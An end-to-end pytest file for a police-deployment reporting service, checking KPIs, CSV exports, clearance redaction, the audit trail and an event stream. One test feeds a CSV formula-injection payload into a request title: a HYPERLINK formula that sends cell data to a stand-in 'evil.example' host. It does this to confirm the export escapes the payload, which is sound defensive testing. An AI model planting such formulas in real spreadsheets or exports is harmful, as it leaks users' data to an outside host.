"""Reporting over HTTP: a known scenario published straight onto the real topics, then the KPIs,
exports, audit trail and live feed checked against values computed here (the dashboard, on the
same scenario, in a browser: `test_dashboard.py`).

The scenario's requests are submitted inside a random window years in the past, so filtering on
that window (`from`/`to`) isolates them from every other test's data.
"""

from __future__ import annotations

import asyncio
import base64
import csv
import io
import json
import random
import secrets
import statistics
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from typing import Any

import asyncpg
import httpx
import pytest
from aiokafka import AIOKafkaProducer

from jiph.stack.postgres import PostgresTarget
from shared.catalogue.deployment import (
    CapabilityOffered,
    DeploymentCompleted,
    DeploymentPlanned,
    DeploymentStarted,
    OfficerCleared,
    OfficerNominated,
    OfficerReleased,
)
from shared.catalogue.intake import Contact, RequestSubmitted, RequestWithdrawn, RoleProfile
from shared.catalogue.triage import RequestApproved, RequestAssessed, RequestRejected
from shared.events import Actor, Envelope, EventData
from shared.reference.data import load_reference_data
from shared.topics import DEPLOYMENT_EVENTS, INTAKE_EVENTS, TRIAGE_EVENTS
from tests.running_services import TokenFactory, bearer

pytestmark = pytest.mark.e2e

TODAY = datetime.now(UTC).date()
FAR = TODAY + timedelta(days=3000)
CONTACT_NAME = "Ms Contact Personal-Data"


def at(day: date, hour: int = 9) -> datetime:
    return datetime(day.year, day.month, day.day, hour, tzinfo=UTC)


def traceparent() -> str:
    return f"00-{secrets.token_hex(16)}-{secrets.token_hex(8)}-01"


class Publisher:
    """One idempotent producer; every envelope it sent, in order."""

    def __init__(self, bootstrap: str) -> None:
        self.producer = AIOKafkaProducer(bootstrap_servers=bootstrap, enable_idempotence=True)
        self.sent: list[Envelope] = []

    async def send(
        self,
        topic: str,
        data: EventData,
        stream: str,
        version: int,
        when: datetime,
        actor: Actor | None = None,
    ) -> Envelope:
        env = Envelope.wrap(
            data,
            stream_id=stream,
            stream_version=version,
            producer="e2e-reporting",
            actor=actor or Actor(subject="hub-staff", role="triage_officer"),
            correlation_id="e2e-reporting",
            traceparent=traceparent(),
            occurred_at=when,
        )
        await self.producer.send_and_wait(
            topic, env.to_bytes(), key=env.key.encode(), headers=env.kafka_headers()
        )
        self.sent.append(env)
        return env


@dataclass
class Scenario:
    window: tuple[date, date]
    ids: dict[str, uuid.UUID]
    references: dict[str, str]
    missions: dict[str, str]
    submitted: dict[str, datetime]
    decided: dict[str, datetime]
    starts: dict[str, date]
    secret_title: str
    sent: list[Envelope] = field(default_factory=list)

    @property
    def window_query(self) -> dict[str, str]:
        return {"from": self.window[0].isoformat(), "to": self.window[1].isoformat()}


def submission(rid: uuid.UUID, ref: str, **kw: Any) -> RequestSubmitted:
    fields: dict[str, Any] = {
        "request_id": rid,
        "reference": ref,
        "partner_id": "e2e-reporting-partner",
        "title": f"Assistance {ref}",
        "description": "Officers to mentor the national police.",
        "country": "SO",
        "mission": None,
        "requesting_body": "E2E body",
        "partner_type": "un",
        "capability": "training",
        "headcount": 2,
        "role_profile": RoleProfile(rank="Inspector"),
        "tour_length_months": 12,
        "needed_by": date(2030, 1, 1),
        "funding_source": "cssf-oda",
        "classification": "OFFICIAL",
        "contact": Contact(name=CONTACT_NAME, email="contact@partner.example"),
    }
    fields.update(kw)
    return RequestSubmitted(**fields)


async def decide(
    pub: Publisher, rid: uuid.UUID, sub: RequestSubmitted, when: datetime, approve: bool
) -> None:
    case = f"case-{rid}"
    await pub.send(
        TRIAGE_EVENTS,
        RequestAssessed(
            request_id=rid,
            score=55.0,
            breakdown=[],
            policy_version="v1",
            risk_tier="low",
            assessor="assessor",
            computed_score=55.0,
        ),
        case,
        2,
        when - timedelta(hours=1),
    )
    if approve:
        decision: EventData = RequestApproved(
            request_id=rid,
            reference=sub.reference,
            country=sub.country,
            capability=sub.capability,
            headcount=sub.headcount,
            classification=sub.classification,
            needed_by=sub.needed_by,
            tour_length_months=12,
        )
    else:
        decision = RequestRejected(request_id=rid, reason_code="out-of-scope")
    await pub.send(TRIAGE_EVENTS, decision, case, 3, when)


@dataclass
class Officer:
    ref: str
    force: str
    gender: str
    expiries: dict[str, date] = field(default_factory=dict)
    deploys: bool = True


async def deploy(
    pub: Publisher,
    rid: uuid.UUID,
    sub: RequestSubmitted,
    mission: str,
    start: date,
    end: date,
    officers: list[Officer],
    completed: bool = False,
) -> None:
    did = uuid.uuid4()
    stream = f"deployment-{did}"
    version = 1
    when = at(start - timedelta(days=30))

    async def send(data: EventData) -> None:
        nonlocal version
        await pub.send(DEPLOYMENT_EVENTS, data, stream, version, when)
        version += 1

    await send(
        DeploymentPlanned(
            request_id=rid,
            deployment_id=did,
            mission=mission,
            country=sub.country,
            capability=sub.capability,
            headcount=len(officers),
            classification=sub.classification,
            tour_start=start,
            tour_end=end,
        )
    )
    for o in officers:
        offer = uuid.uuid4()
        e = {"vetting": FAR, "medical": FAR, "training": FAR, "passport": FAR} | o.expiries
        await pub.send(
            DEPLOYMENT_EVENTS,
            CapabilityOffered(
                offer_id=offer,
                officer_ref=o.ref,
                force=o.force,
                capability=sub.capability,
                rank="Sergeant",
                gender=o.gender,
                vetting_level="sc",
                vetting_expires=e["vetting"],
                medical_expires=e["medical"],
                training_expires=e["training"],
                passport_expires=e["passport"],
                available_from=start - timedelta(days=60),
                available_to=end + timedelta(days=60),
                personal_data=base64.b64encode(secrets.token_bytes(24)).decode(),
            ),
            f"offer-{offer}",
            1,
            at(start - timedelta(days=40)),
            Actor(subject="liaison", role="force_liaison"),
        )
        await send(
            OfficerNominated(
                request_id=rid,
                deployment_id=did,
                officer_ref=o.ref,
                offer_id=offer,
                force=o.force,
                gender=o.gender,
            )
        )
        if o.deploys:
            await send(
                OfficerReleased(request_id=rid, deployment_id=did, officer_ref=o.ref, force=o.force)
            )
            await send(
                OfficerCleared(
                    request_id=rid, deployment_id=did, officer_ref=o.ref, valid_until=end
                )
            )
    when = at(start)
    await send(
        DeploymentStarted(
            request_id=rid,
            deployment_id=did,
            started_on=start,
            officer_refs=[o.ref for o in officers if o.deploys],
        )
    )
    if completed:
        when = at(end)
        await send(DeploymentCompleted(request_id=rid, deployment_id=did, completed_on=end))


async def publish_scenario(bootstrap: str) -> Scenario:
    rng = random.Random()
    base = date(rng.randint(1990, 2015), rng.randint(1, 10), rng.randint(1, 20))
    tag = uuid.uuid4().hex[:6].upper()
    names = ["r1", "r2", "r3", "r4", "r5", "r6"]
    ids = {n: uuid.uuid4() for n in names}
    refs = {n: f"E2E-{tag}-{n.upper()}" for n in names}
    missions = {"r1": f"M1-{tag}", "r2": f"M2-{tag}", "r6": f"M3-{tag}"}
    submitted = {
        "r1": at(base),
        "r2": at(base + timedelta(1)),
        "r3": at(base + timedelta(2)),
        "r4": at(base + timedelta(8)),
        "r5": at(base + timedelta(15)),
        "r6": at(base + timedelta(20)),
    }
    decided = {
        "r1": submitted["r1"] + timedelta(days=3, hours=12),
        "r2": submitted["r2"] + timedelta(days=10),
        "r3": submitted["r3"] + timedelta(days=20),
        "r6": submitted["r6"] + timedelta(days=1),
    }
    starts = {
        "r1": TODAY - timedelta(20),
        "r2": TODAY - timedelta(5),
        "r6": TODAY - timedelta(100),
    }
    secret = f"Covert liaison {tag}"
    subs = {
        "r1": submission(ids["r1"], refs["r1"]),
        "r2": submission(
            ids["r2"],
            refs["r2"],
            country="KE",
            partner_type="eu",
            capability="forensics",
            classification="OFFICIAL-SENSITIVE",
            title=secret,
        ),
        "r3": submission(ids["r3"], refs["r3"]),
        "r4": submission(
            ids["r4"], refs["r4"], country="UA", partner_type="osce", capability="border-security"
        ),
        "r5": submission(ids["r5"], refs["r5"], partner_type="foreign-government"),
        "r6": submission(ids["r6"], refs["r6"], country="KE"),
    }
    pub = Publisher(bootstrap)
    await pub.producer.start()
    try:
        partner = Actor(subject="partner-e2e", role="partner")
        for n in names:
            await pub.send(INTAKE_EVENTS, subs[n], f"request-{ids[n]}", 1, submitted[n], partner)
        for n, approve in (("r1", True), ("r2", True), ("r3", False), ("r6", True)):
            await decide(pub, ids[n], subs[n], decided[n], approve)
        await pub.send(
            INTAKE_EVENTS,
            RequestWithdrawn(
                request_id=ids["r4"], partner_id="e2e-reporting-partner", reason="not needed"
            ),
            f"request-{ids['r4']}",
            2,
            submitted["r4"] + timedelta(days=2),
            partner,
        )
        await deploy(
            pub,
            ids["r1"],
            subs["r1"],
            missions["r1"],
            starts["r1"],
            TODAY + timedelta(25),
            [
                Officer(f"OFF-A-{tag}", "kent", "female", {"medical": TODAY + timedelta(10)}),
                Officer(f"OFF-B-{tag}", "met", "male"),
            ],
        )
        await deploy(
            pub,
            ids["r2"],
            subs["r2"],
            missions["r2"],
            starts["r2"],
            TODAY + timedelta(50),
            [
                Officer(f"OFF-C-{tag}", "met", "female"),
                Officer(f"OFF-D-{tag}", "kent", "male", {"passport": TODAY + timedelta(30)}, False),
            ],
        )
        await deploy(
            pub,
            ids["r6"],
            subs["r6"],
            missions["r6"],
            starts["r6"],
            TODAY - timedelta(40),
            # back home: an expiry before the (past) tour end is no longer a readiness gap
            [Officer(f"OFF-E-{tag}", "met", "male", {"vetting": TODAY - timedelta(60)})],
            completed=True,
        )
    finally:
        await pub.producer.stop()
    return Scenario(
        window=(base, base + timedelta(59)),
        ids=ids,
        references=refs,
        missions=missions,
        submitted=submitted,
        decided=decided,
        starts=starts,
        secret_title=secret,
        sent=pub.sent,
    )


async def get_json(
    client: httpx.AsyncClient, path: str, headers: dict[str, str], **params: Any
) -> Any:
    """GET with a few polite retries: other engineers restart the services while testing."""
    for attempt in range(20):
        try:
            response = await client.get(path, headers=headers, params=params)
            if response.status_code < 500:
                assert response.status_code == 200, response.text
                return response.json()
        except httpx.TransportError:
            pass
        await asyncio.sleep(0.5 + attempt * 0.2)
    raise AssertionError(f"{path} kept failing")


@pytest.fixture(scope="module")
def analyst(token: TokenFactory) -> dict[str, str]:
    return bearer(token("analyst"))


@pytest.fixture(scope="module")
async def scenario(
    services: dict[str, str], bootstrap: str, analyst: dict[str, str]
) -> AsyncIterator[Scenario]:
    published = await publish_scenario(bootstrap)
    async with httpx.AsyncClient(base_url=services["reporting"], timeout=10) as client:
        for _ in range(240):
            s = await get_json(client, "/v1/summary", analyst, **published.window_query)
            if (
                s["requests"]["by_status"].get("in_triage") == 1
                and s["requests"]["total"] == 6
                and s["officer_days_overseas"] == 105
                and s["readiness_expiring_before_tour_end"]["total"] == 2
                and s["women"]["nominated"]["total"] == 5
            ):
                break
            await asyncio.sleep(0.25)
        else:
            raise AssertionError(f"reporting never applied the scenario: {s['requests']}")
    yield published


# --- KPIs -------------------------------------------------------------------------------------
async def test_summary_kpis_match_the_scenario(
    services: dict[str, str], scenario: Scenario, analyst: dict[str, str], token: TokenFactory
) -> None:
    cleared = bearer(token("analyst", clearance="sc"))
    async with httpx.AsyncClient(base_url=services["reporting"], timeout=10) as client:
        s = await get_json(
            client, "/v1/summary", analyst, as_of=TODAY.isoformat(), **scenario.window_query
        )
        seen_cleared = await get_json(
            client, "/v1/summary", cleared, as_of=TODAY.isoformat(), **scenario.window_query
        )
    reference = load_reference_data()
    regions = {c: reference.country(c).region.value for c in ("SO", "KE", "UA")}  # type: ignore[union-attr]
    r = s["requests"]
    assert r["total"] == 6
    assert r["by_status"] == {
        "deployed": 2,
        "rejected": 1,
        "withdrawn": 1,
        "in_triage": 1,
        "closed": 1,
    }
    assert r["by_partner_type"] == {"un": 3, "eu": 1, "osce": 1, "foreign-government": 1}
    assert r["by_country"] == {"SO": 3, "KE": 2, "UA": 1}
    expected_regions: dict[str, int] = {}
    for country, n in (("SO", 3), ("KE", 2), ("UA", 1)):
        expected_regions[regions[country]] = expected_regions.get(regions[country], 0) + n
    assert r["by_region"] == expected_regions
    assert r["by_capability"] == {"training": 4, "forensics": 1, "border-security": 1}

    decision_days = [
        (scenario.decided[n] - scenario.submitted[n]).total_seconds() / 86400
        for n in scenario.decided
    ]
    assert sorted(decision_days) == [1.0, 3.5, 10.0, 20.0]
    p90 = statistics.quantiles(decision_days, n=10, method="inclusive")[8]
    assert s["days_to_decision"]["count"] == 4
    assert s["days_to_decision"]["median"] == pytest.approx(statistics.median(decision_days))
    assert s["days_to_decision"]["p90"] == pytest.approx(round(p90, 2))
    deploy_days = [
        float((scenario.starts[n] - scenario.submitted[n].date()).days) for n in scenario.starts
    ]
    assert s["days_to_deployment"]["median"] == pytest.approx(statistics.median(deploy_days))
    assert s["days_to_deployment"]["p90"] == pytest.approx(
        round(statistics.quantiles(deploy_days, n=10, method="inclusive")[8], 2)
    )
    assert s["outcomes"]["counts"] == {"approved": 3, "rejected": 1, "withdrawn": 1}
    assert s["outcomes"]["rates"] == {"approved": 0.6, "rejected": 0.2, "withdrawn": 0.2}

    now = s["officers_deployed_now"]
    assert now["total"] == 3
    # r2 is OFFICIAL-SENSITIVE: its mission is no one's business without SC clearance.
    assert now["by_mission"] == {scenario.missions["r1"]: 2, "withheld": 1}
    assert seen_cleared["officers_deployed_now"]["by_mission"] == {
        scenario.missions["r1"]: 2,
        scenario.missions["r2"]: 1,
    }
    assert scenario.missions["r2"] not in json.dumps(s)
    assert now["by_force"] == {"met": 2, "kent": 1}
    assert now["by_country"] == {"SO": 2, "KE": 1}
    assert now["by_capability"] == {"training": 2, "forensics": 1}
    assert s["officer_days_overseas"] == 20 + 20 + 5 + 60
    assert s["women"]["nominated"] == {"total": 5, "women": 2, "share": 0.4}
    assert s["women"]["deployed"] == {"total": 4, "women": 2, "share": 0.5}
    assert s["tours_ending"] == {"within_30_days": 1, "within_60_days": 2, "within_90_days": 2}
    gaps = s["readiness_expiring_before_tour_end"]
    assert gaps["total"] == 2
    assert gaps["by_item"] == {"medical": 1, "passport": 1}
    assert scenario.secret_title not in json.dumps(s)


async def test_summary_filters_by_region_and_partner_type(
    services: dict[str, str], scenario: Scenario, analyst: dict[str, str]
) -> None:
    async with httpx.AsyncClient(base_url=services["reporting"], timeout=10) as client:
        un = await get_json(
            client, "/v1/summary", analyst, partner_type="un", **scenario.window_query
        )
        africa = await get_json(
            client, "/v1/summary", analyst, region="africa", **scenario.window_query
        )
    assert un["requests"]["total"] == 3
    assert un["officers_deployed_now"]["total"] == 2  # r1's officers; r2 is an EU request
    assert africa["requests"]["total"] == 5  # SO and KE, not UA


async def test_timeseries_counts_submissions_per_week(
    services: dict[str, str], scenario: Scenario, analyst: dict[str, str]
) -> None:
    async with httpx.AsyncClient(base_url=services["reporting"], timeout=10) as client:
        ts = await get_json(
            client,
            "/v1/timeseries",
            analyst,
            metric="submitted",
            interval="week",
            **scenario.window_query,
        )
        approved = await get_json(
            client,
            "/v1/timeseries",
            analyst,
            metric="approved",
            interval="month",
            **scenario.window_query,
        )
    expected: dict[str, int] = {}
    for when in scenario.submitted.values():
        monday = (when.date() - timedelta(days=when.weekday())).isoformat()
        expected[monday] = expected.get(monday, 0) + 1
    points = {p["period"]: p["count"] for p in ts["points"]}
    assert {k: v for k, v in points.items() if v} == expected
    assert sum(p["count"] for p in approved["points"]) == 3


# --- rows, exports, classification ------------------------------------------------------------
async def test_requests_paginate_and_csv_exports_every_matching_row(
    services: dict[str, str], scenario: Scenario, analyst: dict[str, str]
) -> None:
    seen: list[str] = []
    async with httpx.AsyncClient(base_url=services["reporting"], timeout=10) as client:
        cursor = None
        while True:
            params = {"limit": 2, "sort": "reference", "order": "asc", **scenario.window_query}
            if cursor:
                params["cursor"] = cursor
            page = await get_json(client, "/v1/requests", analyst, **params)
            assert len(page["items"]) <= 2
            seen += [item["reference"] for item in page["items"]]
            cursor = page["next_cursor"]
            if not cursor:
                break
        response = await client.get(
            "/v1/requests",
            headers=analyst,
            params={"format": "csv", "limit": 2, **scenario.window_query},
        )
    assert seen == sorted(scenario.references.values())
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 6
    assert {row["reference"] for row in rows} == set(scenario.references.values())
    by_ref = {row["reference"]: row for row in rows}
    assert by_ref[scenario.references["r3"]]["status"] == "rejected"
    assert by_ref[scenario.references["r2"]]["title"] == ""  # redacted for an uncleared analyst
    assert by_ref[scenario.references["r2"]]["redacted"] == "True"


async def test_sensitive_titles_only_for_sc_clearance(
    services: dict[str, str], scenario: Scenario, analyst: dict[str, str], token: TokenFactory
) -> None:
    cleared = bearer(token("analyst", clearance="sc"))
    params = {"country": "ke", "partner_type": "eu", **scenario.window_query}  # any case
    async with httpx.AsyncClient(base_url=services["reporting"], timeout=10) as client:
        hidden = await get_json(client, "/v1/requests", analyst, **params)
        shown = await get_json(client, "/v1/requests", cleared, **params)
        partner = await client.get("/v1/summary", headers=bearer(token("partner", partner_id="x")))
    assert hidden["items"][0]["title"] is None and hidden["items"][0]["redacted"] is True
    assert shown["items"][0]["title"] == scenario.secret_title
    assert partner.status_code == 403


async def test_deployments_list_and_csv(
    services: dict[str, str], scenario: Scenario, analyst: dict[str, str]
) -> None:
    async with httpx.AsyncClient(base_url=services["reporting"], timeout=10) as client:
        page = await get_json(
            client, "/v1/deployments", analyst, request_id=str(scenario.ids["r1"])
        )
        response = await client.get(
            "/v1/deployments",
            headers=analyst,
            params={"format": "csv", "mission": scenario.missions["r6"]},
        )
    (row,) = page["items"]
    assert row["mission"] == scenario.missions["r1"]
    assert row["status"] == "deployed"
    assert (row["officers_nominated"], row["officers_deployed"]) == (2, 2)
    (exported,) = list(csv.DictReader(io.StringIO(response.text)))
    assert exported["status"] == "completed"


async def test_a_csv_export_never_runs_a_partners_text_as_a_formula(
    services: dict[str, str], bootstrap: str, token: TokenFactory, scenario: Scenario
) -> None:
    rid = uuid.uuid4()
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
    sub = submission(rid, f"E2E-CSV-{rid.hex[:6]}", title=title, mission="@SUM(1+1)")
    when = at(scenario.window[0] - timedelta(days=500))  # outside the scenario's window
    pub = Publisher(bootstrap)
    await pub.producer.start()
    try:
        await pub.send(INTAKE_EVENTS, sub, f"request-{rid}", 1, when)
    finally:
        await pub.producer.stop()
    cleared = bearer(token("analyst", clearance="sc"))
    day = when.date().isoformat()
    async with httpx.AsyncClient(base_url=services["reporting"], timeout=10) as client:
        for _ in range(100):
            export = await client.get(
                "/v1/requests", headers=cleared, params={"format": "csv", "from": day, "to": day}
            )
            rows = [
                r for r in csv.DictReader(io.StringIO(export.text)) if r["request_id"] == str(rid)
            ]
            if rows:
                break
            await asyncio.sleep(0.2)
    assert export.headers["Cache-Control"] == "no-store"
    [row] = rows
    assert (row["title"], row["mission"]) == ("'" + title, "'@SUM(1+1)")


async def test_no_personal_data_is_stored(scenario: Scenario, infra: PostgresTarget) -> None:
    conn = await asyncpg.connect(infra.admin_url.rsplit("/", 1)[0] + "/jiph_reporting")
    try:
        leaks = await conn.fetchval(
            "SELECT count(*) FROM projection.event_log "
            "WHERE data::text LIKE $1 OR data ? 'personal_data'",
            f"%{CONTACT_NAME}%",
        )
    finally:
        await conn.close()
    assert leaks == 0


# --- audit ------------------------------------------------------------------------------------
async def test_audit_returns_every_event_of_the_request_in_order(
    services: dict[str, str], scenario: Scenario, token: TokenFactory
) -> None:
    rid = scenario.ids["r1"]
    ours = [e for e in scenario.sent if e.data.get("request_id") == str(rid)]
    async with httpx.AsyncClient(base_url=services["reporting"], timeout=10) as client:
        audit = await get_json(client, f"/v1/audit/{rid}", bearer(token("operator")))
        missing = await client.get(f"/v1/audit/{uuid.uuid4()}", headers=bearer(token("admin")))
    events = audit["events"]
    times = [e["occurred_at"] for e in events]
    assert times == sorted(times)
    published = {str(e.event_id): e for e in ours}
    listed = [e for e in events if e["event_id"] in published]
    assert [e["event_id"] for e in listed] == [
        str(e.event_id) for e in sorted(ours, key=lambda e: e.occurred_at)
    ]
    for entry in listed:
        env = published[entry["event_id"]]
        assert entry["event_type"] == env.event_type
        assert entry["actor"] == {"subject": env.actor.subject, "role": env.actor.role}
        assert entry["trace_id"] == env.traceparent.split("-")[1]  # type: ignore[union-attr]
        assert entry["producer"] == "e2e-reporting"
    # Triage's own reaction (opening the case) is part of the trail too.
    assert any(e["event_type"] == "RequestTriaged" and e["producer"] == "triage" for e in events)
    assert missing.status_code == 404


# --- live feed --------------------------------------------------------------------------------
async def read_events(
    client: httpx.AsyncClient,
    params: dict[str, Any],
    headers: dict[str, str],
    want: int,
    connected: asyncio.Event | None = None,
) -> list[tuple[int, dict[str, Any]]]:
    """The first `want` SSE events (id, data) of /v1/stream."""
    got: list[tuple[int, dict[str, Any]]] = []
    async with client.stream("GET", "/v1/stream", params=params, headers=headers) as response:
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/event-stream")
        event_id: int | None = None
        async for line in response.aiter_lines():
            if line.startswith(": connected") and connected is not None:
                connected.set()
            elif line.startswith("id: "):
                event_id = int(line[4:])
            elif line.startswith("data: ") and event_id is not None:
                got.append((event_id, json.loads(line[6:])))
                if len(got) == want:
                    return got
    return got


async def test_stream_sends_new_events_and_resumes_after_last_event_id(
    services: dict[str, str], bootstrap: str, token: TokenFactory, scenario: Scenario
) -> None:
    rid = uuid.uuid4()
    sub = submission(rid, f"E2E-SSE-{rid.hex[:6]}")
    when = at(scenario.window[0] - timedelta(days=400))  # outside the scenario's window
    operator = token("operator")
    params = {"request_id": str(rid), "type": ["RequestSubmitted", "RequestWithdrawn"]}
    pub = Publisher(bootstrap)
    await pub.producer.start()
    try:
        async with httpx.AsyncClient(base_url=services["reporting"], timeout=30) as client:
            connected = asyncio.Event()
            reader = asyncio.create_task(
                read_events(client, {**params, "access_token": operator}, {}, 1, connected)
            )
            await asyncio.wait_for(connected.wait(), 20)
            await pub.send(INTAKE_EVENTS, sub, f"request-{rid}", 1, when)
            ((first_id, first),) = await asyncio.wait_for(reader, 30)
            assert first["event_type"] == "RequestSubmitted"
            assert first["details"]["reference"] == sub.reference
            assert "title" not in first["details"]

            withdrawn = RequestWithdrawn(request_id=rid, partner_id="p", reason="gone")
            await pub.send(INTAKE_EVENTS, withdrawn, f"request-{rid}", 2, when + timedelta(1))
            resumed = await asyncio.wait_for(
                read_events(
                    client, params, {**bearer(operator), "Last-Event-ID": str(first_id)}, 1
                ),
                30,
            )
            forbidden = await client.get(
                "/v1/stream", params={"access_token": token("partner", partner_id="x")}
            )
    finally:
        await pub.producer.stop()
    ((second_id, second),) = resumed
    assert second["event_type"] == "RequestWithdrawn" and second_id > first_id
    assert forbidden.status_code == 403
